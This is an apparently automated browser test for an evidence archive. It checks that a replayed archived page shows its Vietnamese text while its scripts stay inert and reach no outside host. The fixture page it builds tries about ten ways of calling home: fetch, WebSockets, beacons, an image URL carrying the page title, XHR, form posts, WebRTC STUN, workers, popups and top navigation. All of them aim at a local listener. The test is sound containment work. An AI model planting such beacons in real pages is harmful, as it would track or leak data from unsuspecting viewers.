// Promises that a sealed archive is replayed with its words, and that a page which calls home from the replay reaches nobody.
import { createServer, type Server } from "node:net";
import { createSocket, type Socket } from "node:dgram";
import { once } from "node:events";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, expect, test } from "vitest";
import { addPerson, password, seedFinding } from "../../support/desk.ts";
import { type BrowserDesk, enter, openBrowserDesk } from "../../support/desk-browser.ts";

let at: BrowserDesk;
let tcp: Server;
let udp: Socket;
/** Everything that reached the outside. */
const reached: string[] = [];
const words = "Phiên chợ Gò Đình họp mỗi tháng hai lần";

const callHome = (
  host: string,
  udpPort: number,
) => `<!doctype html><html lang="vi"><meta charset="utf-8"><title>Phiên chợ</title>
<link rel="dns-prefetch" href="http://${host}/"><link rel="preconnect" href="http://${host}/"><link rel="prefetch" href="http://${host}/prefetch">
<h1>${words}</h1><p id="ran">chưa chạy</p><img src="http://${host}/anh.png"><iframe src="http://${host}/khung"></iframe>
<form id="f" action="http://${host}/bieu-mau" method="post"><input name="a" value="b"></form>
<script>
document.getElementById("ran").textContent = "đã chạy";
const attempts = [
  () => fetch("http://${host}/fetch", { mode: "no-cors" }).catch(() => 0),
  () => new WebSocket("ws://${host}/ws"),
  () => { const f = document.createElement("iframe"); document.body.append(f); new f.contentWindow.WebSocket("ws://${host}/ws2"); },
  () => navigator.sendBeacon("http://${host}/beacon", "x"),
  () => { new Image().src = "http://${host}/img?" + document.title; },
  () => new EventSource("http://${host}/sse"),
  () => { const x = new XMLHttpRequest(); x.open("GET", "http://${host}/xhr"); x.send(); },
  () => document.getElementById("f").submit(),
  () => { const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udpPort}" }] }); c.createDataChannel("a"); c.createOffer().then((o) => c.setLocalDescription(o)); },
  () => new Worker(URL.createObjectURL(new Blob(["fetch('http://${host}/worker',{mode:'no-cors'});new WebSocket('ws://${host}/wsw')"]))),
];
setTimeout(() => window.open("http://${host}/open"), 3000);
setTimeout(() => { top.location.href = "http://${host}/top"; }, 3500);
for (const attempt of attempts) try { attempt(); } catch {}
</script></html>`;

beforeAll(async () => {
  at = await openBrowserDesk(8798);
  await addPerson(at.desk, "thanh.ha", "lead", "Nguyễn Thị Thanh Hà");
  tcp = createServer((socket) => {
    reached.push("tcp");
    socket.on("data", (bytes) => reached.push(bytes.toString("latin1").split("\r\n")[0]!));
    socket.on("error", () => undefined);
    socket.setTimeout(500, () => socket.destroy());
  }).listen(0, "127.0.0.1");
  udp = createSocket("udp4").on("message", () => reached.push("udp"));
  udp.bind(0, "127.0.0.1");
  await Promise.all([once(tcp, "listening"), once(udp, "listening")]);
});
afterAll(async () => {
  await at.close();
  tcp.close();
  udp.close();
});

test("the archived page shows its words, its scripts stay still, and nothing leaves for anybody", async () => {
  const host = `127.0.0.1:${(tcp.address() as AddressInfo).port}`;
  const seeded = await seedFinding(at.desk, {
    url: "https://phien-cho.example/trang",
    shown: { archived: callHome(host, udp.address().port), text: words },
  });
  const context = await at.browser.newContext({ viewport: { width: 1440, height: 900 } });
  const page = await context.newPage();
  const popups: string[] = [];
  context.on("page", (popup) => popups.push(popup.url()));
  const origins = new Set<string>();
  page.on("request", (request) => origins.add(new URL(request.url()).origin));
  await enter(page, at.origins, "thanh.ha", password);
  await page.goto(`${at.origins.desk}/findings/${seeded.findingId}`);
  await page.getByRole("tab", { name: "Xem lại" }).click();
  await page.getByRole("button", { name: "Mở bản lưu" }).click();
  const shown = async () => {
    const replayed = page.frames().filter((frame) => frame.url().includes("mp_/"));
    const texts = await Promise.all(
      replayed.map((f) => f.evaluate(() => document.body?.innerText ?? "").catch(() => "")),
    );
    return texts.join("\n");
  };
  await expect.poll(shown, { timeout: 25_000 }).toContain(words);
  await page.waitForTimeout(1500);
  // The page's own scripts do not run: what they would draw is on the picture and in the text.
  expect(await shown()).toContain("chưa chạy");
  await page.screenshot({ path: "data/screens/evidence-view/replay.png" });
  await page.waitForTimeout(4500);
  expect(reached).toEqual([]);
  expect(popups).toEqual([]);
  expect(page.url()).toContain(`/findings/${seeded.findingId}`);
  const own = [at.origins.desk, at.origins.evidence, at.origins.replay, "null"];
  expect([...origins].filter((origin) => !own.includes(origin) && origin !== `http://${host}`)).toEqual([]);
  const acts = await at.desk.database.pool.query(
    "select act from ledger where subject = $1 and act = 'original.viewed'",
    [seeded.captureId],
  );
  expect(acts.rowCount).toBeGreaterThanOrEqual(2);
  await context.close();
});
